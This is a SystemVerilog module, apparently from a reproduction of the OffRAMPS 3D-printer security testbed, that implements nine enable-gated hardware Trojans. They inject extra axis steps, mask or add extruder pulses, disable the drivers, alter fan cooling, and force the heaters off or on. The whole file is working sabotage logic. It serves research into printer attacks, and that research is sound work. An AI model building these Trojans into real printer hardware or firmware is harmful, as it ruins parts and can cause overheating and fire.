// trojan_control: the nine hardware Trojans of the OffRAMPS platform.
//
// Input is the synchronised control bundle from the firmware (STEP/DIR/EN of
// X, Y, Z, E, bed heater D8, hotend heater D10, part fan D9) with the STEP
// edges; output is the bundle sent on to the RAMPS board, one register stage
// later. With every enable low the output equals the input delayed by one
// cycle. trojan_en[i-1] enables Trojan Ti:
//
//   T1  every T1_INTERVAL cycles (10 s) add T1_STEPS full steps to X and to Y
//       (T1_RANDOM=1: to X or to Y, chosen by LFSR bit 14)
//   T2  one extruder pulse of every T2_DROP_EVERY is masked (T2_OVER=0, 2:
//       half the flow) or followed by an extra pulse (T2_OVER=1, 2: +50 %)
//   T3  while Y is moving (a Y step within T3_WINDOW cycles) double every
//       extruder pulse (T3_OVER=1) or mask it (T3_OVER=0)
//   T4  on a Z step, with probability 2^-T4_PROB_LOG2 (16-bit LFSR), add
//       T4_STEPS full steps to X or to Y (Z-wobble)
//   T5  once, after T5_TRIGGER_ZSTEPS Z steps, add T5_STEPS full Z steps
//   T6  heaters forced off            T7  heaters forced on (wins over T6)
//   T8  all drivers disabled (EN high) for T8_OFF of every T8_PERIOD cycles
//   T9  part fan ANDed with a T9_DUTY/256 PWM (T9_OVER=0: under-cooling) or
//       ORed with it (T9_OVER=1: over-cooling)
//
// T1-T5, T8 and T9 act only after `homed`, so they hit the print and not the
// homing moves; T6 and T7 act at once since heating starts before homing.
//
// Extra steps are made by one pulse_generator per axis. Requests add full
// steps to a per-axis pending count; an idle generator takes the whole count
// as one burst. Injected pulses (period INJ_PERIOD, width INJ_WIDTH) are ORed
// onto the firmware's STEP line and start only while that line is low, so
// they fall between the firmware's own pulses. They keep the firmware's DIR,
// so a shift goes the way the axis is moving. T3 extra extruder pulses are
// single driver pulses; the other Trojans' steps are multiplied by the
// microstepping factor 2^USTEP_LOG2.
//
// The list of Trojans, the 10 s period of T1 and the 50% masking of T2 follow
// the paper. Where its table and its text differ (T1 on X or Y at random
// against X and Y every 10 s; T2 over or under extrusion against the masking
// it printed; T9 reduced fan against over- or under-cooling), both readings
// are built and the default is the one the text describes or the table names. Step counts, windows, probabilities, duty cycles and the timing
// of injected pulses are this design's choices, set by parameters.
module trojan_control
  import offramps_pkg::*;
#(
  parameter int unsigned T1_INTERVAL       = 1_000_000_000,
  parameter int unsigned T1_STEPS          = 10,
  parameter bit          T1_RANDOM         = 1'b0,
  parameter int unsigned T2_DROP_EVERY     = 2,
  parameter bit          T2_OVER           = 1'b0,
  parameter int unsigned T3_WINDOW         = 100_000,
  parameter bit          T3_OVER           = 1'b1,
  parameter int unsigned T4_PROB_LOG2      = 6,
  parameter int unsigned T4_STEPS          = 4,
  parameter int unsigned T5_TRIGGER_ZSTEPS = 4000,
  parameter int unsigned T5_STEPS          = 40,
  parameter int unsigned T8_PERIOD         = 200_000_000,
  parameter int unsigned T8_OFF            = 50_000_000,
  parameter int unsigned T9_DUTY           = 128,
  parameter bit          T9_OVER           = 1'b0,
  parameter int unsigned USTEP_LOG2        = 4,
  parameter int unsigned INJ_PERIOD        = 10_000,
  parameter int unsigned INJ_WIDTH         = 200,
  parameter logic [15:0] LFSR_SEED         = 16'hACE1
) (
  input  logic                   clk,
  input  logic                   rst_n,
  input  logic [NUM_TROJANS-1:0] trojan_en,
  input  logic                   homed,
  input  ctrl_t                  in_ctrl,
  input  logic [NUM_AXES-1:0]    step_rise,
  input  logic [NUM_AXES-1:0]    step_fall,
  output ctrl_t                  out_ctrl,
  output logic [NUM_TROJANS-1:0] active
);

  localparam int unsigned PEND_W = 16;
  localparam int unsigned T1_W   = $clog2(T1_INTERVAL + 1);
  localparam int unsigned T3_W   = $clog2(T3_WINDOW + 1);
  localparam int unsigned T5_W   = $clog2(T5_TRIGGER_ZSTEPS + 1);
  localparam int unsigned T8_W   = $clog2(T8_PERIOD + 1);
  localparam int unsigned T2_W   = (T2_DROP_EVERY > 1) ? $clog2(T2_DROP_EVERY) : 1;

  // ---------------------------------------------------------------- enables
  always_comb begin
    for (int i = 0; i < NUM_TROJANS; i++)
      active[i] = trojan_en[i] && (homed || i == TJ_T6 || i == TJ_T7);
  end

  // ------------------------------------------------------------------- LFSR
  logic [15:0] lfsr_q;
  always_ff @(posedge clk) begin
    if (!rst_n) lfsr_q <= LFSR_SEED;
    else        lfsr_q <= lfsr_q[0] ? ((lfsr_q >> 1) ^ 16'hB400) : (lfsr_q >> 1);
  end

  // --------------------------------------------------------- T1: X/Y shift
  logic [T1_W-1:0] t1_timer_q;
  logic            t1_tick, t1_to_x, t1_to_y;
  assign t1_to_x = t1_tick && (!T1_RANDOM || !lfsr_q[14]);
  assign t1_to_y = t1_tick && (!T1_RANDOM ||  lfsr_q[14]);
  assign t1_tick = active[TJ_T1] && (t1_timer_q == T1_W'(T1_INTERVAL - 1));
  always_ff @(posedge clk) begin
    if (!rst_n || !active[TJ_T1] || t1_tick) t1_timer_q <= '0;
    else                                     t1_timer_q <= t1_timer_q + T1_W'(1);
  end

  // ------------------------------------------------- T3: Y-motion window
  logic [T3_W-1:0] y_window_q;
  logic            y_moving;
  assign y_moving = (y_window_q != '0);
  always_ff @(posedge clk) begin
    if (!rst_n)                 y_window_q <= '0;
    else if (step_rise[AX_Y])   y_window_q <= T3_W'(T3_WINDOW);
    else if (y_moving)          y_window_q <= y_window_q - T3_W'(1);
  end

  // --------------------------------------------------------- T4: Z-wobble
  logic t4_hit, t4_to_x, t4_to_y;
  assign t4_hit  = active[TJ_T4] && step_rise[AX_Z] &&
                   (lfsr_q[T4_PROB_LOG2-1:0] == '0);
  assign t4_to_x = t4_hit && !lfsr_q[15];
  assign t4_to_y = t4_hit &&  lfsr_q[15];

  // ------------------------------------------------------ T5: Z-layer shift
  logic [T5_W-1:0] z_since_home_q;
  logic            t5_fired_q;
  logic            t5_fire;
  assign t5_fire = active[TJ_T5] && !t5_fired_q &&
                   (z_since_home_q >= T5_W'(T5_TRIGGER_ZSTEPS));
  always_ff @(posedge clk) begin
    if (!rst_n || !homed) begin
      z_since_home_q <= '0;
      t5_fired_q     <= 1'b0;
    end else begin
      if (step_rise[AX_Z] && z_since_home_q < T5_W'(T5_TRIGGER_ZSTEPS))
        z_since_home_q <= z_since_home_q + T5_W'(1);
      if (t5_fire) t5_fired_q <= 1'b1;
    end
  end

  // ------------------------------------------------------ T2/T3: E masking
  logic [T2_W-1:0] t2_cnt_q;
  logic            t2_sel_now, t2_add_q;
  logic            e_drop_now, e_mask_q, e_mask;
  assign t2_sel_now = active[TJ_T2] && (t2_cnt_q == T2_W'(T2_DROP_EVERY - 1));
  assign e_drop_now = (t2_sel_now && !T2_OVER) ||
                      (active[TJ_T3] && !T3_OVER && y_moving);
  assign e_mask = step_rise[AX_E] ? e_drop_now : e_mask_q;
  always_ff @(posedge clk) begin
    if (!rst_n) begin
      t2_cnt_q <= '0;
      t2_add_q <= 1'b0;
      e_mask_q <= 1'b0;
    end else begin
      e_mask_q <= e_mask;
      // over-extrusion: the selected pulse is followed by an added one
      if (step_rise[AX_E]) t2_add_q <= t2_sel_now && T2_OVER;
      else if (step_fall[AX_E]) t2_add_q <= 1'b0;
      if (!active[TJ_T2])
        t2_cnt_q <= '0;
      else if (step_rise[AX_E])
        t2_cnt_q <= (t2_cnt_q == T2_W'(T2_DROP_EVERY - 1)) ? '0 : t2_cnt_q + T2_W'(1);
    end
  end

  // ------------------------------------------------------ step injection
  logic [PEND_W-1:0]   add_steps [NUM_AXES];
  logic [PEND_W-1:0]   pending_q [NUM_AXES];
  logic [NUM_AXES-1:0] inj_start, inj_busy, inj_step;

  always_comb begin
    add_steps[AX_X] = (t1_to_x ? PEND_W'(T1_STEPS) : '0) + (t4_to_x ? PEND_W'(T4_STEPS) : '0);
    add_steps[AX_Y] = (t1_to_y ? PEND_W'(T1_STEPS) : '0) + (t4_to_y ? PEND_W'(T4_STEPS) : '0);
    add_steps[AX_Z] = t5_fire ? PEND_W'(T5_STEPS) : '0;
    add_steps[AX_E] = ((active[TJ_T3] && T3_OVER && y_moving && step_fall[AX_E]) ? PEND_W'(1) : '0) +
                      ((t2_add_q && step_fall[AX_E]) ? PEND_W'(1) : '0);
  end

  for (genvar a = 0; a < NUM_AXES; a++) begin : g_inj
    assign inj_start[a] = !inj_busy[a] && (pending_q[a] != '0);

    always_ff @(posedge clk) begin
      if (!rst_n) pending_q[a] <= '0;
      else        pending_q[a] <= (inj_start[a] ? '0 : pending_q[a]) + add_steps[a];
    end

    pulse_generator #(.CNT_W(PEND_W), .TIME_W(24)) u_pg (
      .clk        (clk),
      .rst_n      (rst_n),
      .start      (inj_start[a]),
      .num_steps  (pending_q[a]),
      .ustep_log2 ((a == AX_E) ? 3'd0 : 3'(USTEP_LOG2)),
      .period     (24'(INJ_PERIOD)),
      .width      (24'(INJ_WIDTH)),
      .pause      (in_ctrl.step[a]),
      .step_o     (inj_step[a]),
      .busy       (inj_busy[a]),
      .done       ()
    );
  end

  // ------------------------------------------------ T8: driver disable
  logic [T8_W-1:0] t8_timer_q;
  logic            t8_off;
  assign t8_off = active[TJ_T8] && (t8_timer_q < T8_W'(T8_OFF));
  always_ff @(posedge clk) begin
    if (!rst_n || !active[TJ_T8])                  t8_timer_q <= '0;
    else if (t8_timer_q == T8_W'(T8_PERIOD - 1))   t8_timer_q <= '0;
    else                                           t8_timer_q <= t8_timer_q + T8_W'(1);
  end

  // ------------------------------------------------------- T9: fan PWM
  logic [15:0] fan_pwm_q;
  logic        fan_pwm_on;
  always_ff @(posedge clk) begin
    if (!rst_n) fan_pwm_q <= '0;
    else        fan_pwm_q <= fan_pwm_q + 16'd1;
  end
  assign fan_pwm_on = {1'b0, fan_pwm_q[15:8]} < 9'(T9_DUTY);

  // ------------------------------------------------------- output stage
  ctrl_t out_d;
  always_comb begin
    out_d = in_ctrl;
    out_d.step = in_ctrl.step | inj_step;
    out_d.step[AX_E] = (in_ctrl.step[AX_E] & ~e_mask) | inj_step[AX_E];
    if (t8_off) out_d.en = '1;
    if (active[TJ_T7]) begin
      out_d.heat_bed = 1'b1;
      out_d.heat_end = 1'b1;
    end else if (active[TJ_T6]) begin
      out_d.heat_bed = 1'b0;
      out_d.heat_end = 1'b0;
    end
    if (active[TJ_T9])
      out_d.fan = T9_OVER ? (in_ctrl.fan | fan_pwm_on) : (in_ctrl.fan & fan_pwm_on);
  end

  always_ff @(posedge clk) begin
    if (!rst_n) out_ctrl <= '0;
    else        out_ctrl <= out_d;
  end

endmodule
